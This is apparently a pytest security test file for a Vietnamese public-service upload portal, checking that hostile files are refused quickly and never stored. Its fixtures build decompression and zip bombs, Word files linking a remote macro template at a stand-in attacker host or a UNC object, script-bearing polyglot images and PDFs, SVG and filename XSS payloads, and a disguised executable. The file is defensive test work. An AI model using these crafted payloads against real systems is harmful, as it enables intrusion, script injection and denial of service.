"""Hostile uploads through the page itself: each is told in a sentence, nothing grows without bound."""

import io
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from motcua.documents.models import StoredFile
from tests import cast, province
from tests.portal.walking import MARRIAGE, Walker, photo, problems
from tests.security.world import rows_of_all_tables

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("_office_hours")]


@pytest.fixture
def walker():
    province.make_province()
    walker = Walker(province.signed_in(cast.make_citizen("Đặng Thị Mộng Tuyền")), MARRIAGE).begin()
    from motcua.intake.situation import Situation

    stop = next((one for one in Situation(walker.draft).journey.stops if one.item), None)
    if stop is None:
        pytest.fail("this procedure asks for no paper yet")
    walker.address = f"/nop-ho-so/ban/{walker.draft.key}/{stop.key}"
    return walker


def _png_bomb() -> bytes:
    """A header that promises 60,000 × 60,000 pixels."""
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, "PNG")
    data = bytearray(out.getvalue())
    data[16:24] = (60_000).to_bytes(4, "big") * 2
    data[29:33] = zlib.crc32(bytes(data[12:29])).to_bytes(4, "big")
    return bytes(data)


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"0" * 120_000_000)
    return out.getvalue()


def _word(relations: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships>{relations}</Relationships>")
    return out.getvalue()


KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _remote_template() -> bytes:
    """Opens a template with macros from elsewhere, as soon as an officer opens it."""
    return _word(
        f'<Relationship Id="r" Type="{KIND}/attachedTemplate" Target="http://ke-xau.example/x.dotm" TargetMode="External"/>'
    )


def _remote_object() -> bytes:
    return _word(f'<Relationship TargetMode="External" Target="\\\\ke-xau\\x" Type="{KIND}/oleObject" Id="r"/>')


def _gif_with_script() -> bytes:
    return b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"


def _pdf_with_page(data: bytes = b"") -> bytes:
    return b"%PDF-1.7\n<html><script>alert(1)</script></html>\n" + data


HOSTILE = {
    "png-bomb.png": _png_bomb,
    "zip-bomb.docx": _zip_bomb,
    "template.docx": _remote_template,
    "object.docx": _remote_object,
    "gif.jpg": _gif_with_script,
    "html.pdf": _pdf_with_page,
    "svg.jpg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "html.jpg": lambda: b"<html><script>alert(1)</script>",
    "exe.jpg": lambda: b"MZ" + b"\0" * 2000,
    "empty.jpg": lambda: b"",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_in_a_sentence_and_not_kept(walker, name):
    began = time.monotonic()
    answer = walker.client.post(walker.address, {"tep": SimpleUploadedFile(name, HOSTILE[name]()), "them": "1"})
    assert answer.status_code == 200
    assert problems(answer)
    assert not StoredFile.objects.exists()
    assert time.monotonic() - began < 30


def test_a_picture_that_is_also_a_page_keeps_only_the_picture(walker):
    """A polyglot: what is kept was drawn anew, so the page is gone."""
    good = photo().read() + b"<html><script>alert(1)</script></html>"
    walker.client.post(walker.address, {"tep": SimpleUploadedFile("anh.jpg", good), "them": "1"})
    from motcua.documents import store

    kept = StoredFile.objects.get()
    assert b"<script>" not in store.read(kept.key, sha256=kept.sha256)


def test_ten_thousand_files_in_one_sending_are_refused_at_once(walker):
    before = rows_of_all_tables()
    began = time.monotonic()
    files = [SimpleUploadedFile(f"{n}.jpg", b"x") for n in range(2_000)]
    answer = walker.client.post(walker.address, {"tep": files})
    assert answer.status_code == 400
    assert "Chưa đọc được yêu cầu này" in answer.content.decode()
    assert time.monotonic() - began < 20
    assert rows_of_all_tables() == before


def test_more_than_is_ever_read_is_refused_unread(client, settings):
    settings.REQUEST_MAX_BYTES = 1_000_000
    unread = io.BytesIO(b"x" * 1_000_001)
    answer = client.generic("POST", "/kiem-tra", unread.getvalue(), content_type="multipart/form-data; boundary=x")
    assert answer.status_code == 413
    assert "Quay lại và gửi từng ảnh một" in answer.content.decode()


@pytest.mark.parametrize("length", ["-1", "9" * 40, "không", ""])
def test_a_strange_length_is_no_failure(client, length):
    client.raise_request_exception = False
    assert client.generic("POST", "/tra-cuu", b"x=1", CONTENT_LENGTH=length).status_code in {200, 400, 413}


def test_a_thousand_fields_too_many_are_no_failure(client):
    answer = client.post("/tra-cuu", {f"f{n}": "x" for n in range(2_000)})
    assert answer.status_code == 400


def test_a_word_file_with_a_link_is_kept(walker):
    link = _word(f'<Relationship Id="r" Type="{KIND}/hyperlink" Target="https://vidu.vn" TargetMode="External"/>')
    answer = walker.client.post(walker.address, {"tep": SimpleUploadedFile("don.docx", link), "them": "1"})
    assert answer.status_code == 302, problems(answer)


def test_what_was_sent_is_nobody_elses_on_the_machine(walker, settings):
    from pathlib import Path

    walker.client.post(walker.address, {"tep": photo(), "them": "1"})
    key = StoredFile.objects.get().key.hex
    path = Path(settings.VAR) / "files" / key[:2] / key
    assert path.stat().st_mode & 0o077 == 0
    assert path.parent.stat().st_mode & 0o077 == 0


def test_a_name_runs_nowhere(walker):
    name = '"><img src=x onerror=alert(1)>\u202egpj.jpg'
    walker.client.post(walker.address, {"tep": photo(name), "them": "1"})
    page = walker.client.get(walker.address).content.decode()
    assert "<img src=x" not in page
    assert "\u202e" not in page


def test_all_drafts_of_an_account_together_have_an_end_and_nothing_is_lost(walker):
    """The number of drafts, and the weight of each, would be no bound of what one account fills the disk with."""
    from motcua.agencies import remembered, rules
    from motcua.agencies.models import RuleValue
    from motcua.intake.models import Draft

    RuleValue.objects.create(key=rules.DRAFT_FILES_MOST_MB.key, value=1, effective_from=cast.BEGAN, source="Thử")
    remembered.clear()
    walker.client.post(walker.address, {"tep": photo("1.jpg"), "them": "1"})
    StoredFile.objects.update(size=1024 * 1024 - 1)
    former = walker.draft.key
    other = Walker(walker.client, MARRIAGE).begin()
    other.address = walker.address.replace(str(former), str(other.draft.key))
    refused = other.client.post(other.address, {"tep": photo("2.jpg"), "them": "1"})
    assert any("Chưa nhận “2.jpg”" in one and "xóa một hồ sơ viết dở" in one for one in problems(refused))
    assert StoredFile.objects.count() == 1
    Draft.objects.filter(key=former).update(dossier_code="H19.26-261110-0001")
    assert other.client.post(other.address, {"tep": photo("2.jpg"), "them": "1"}).status_code == 302
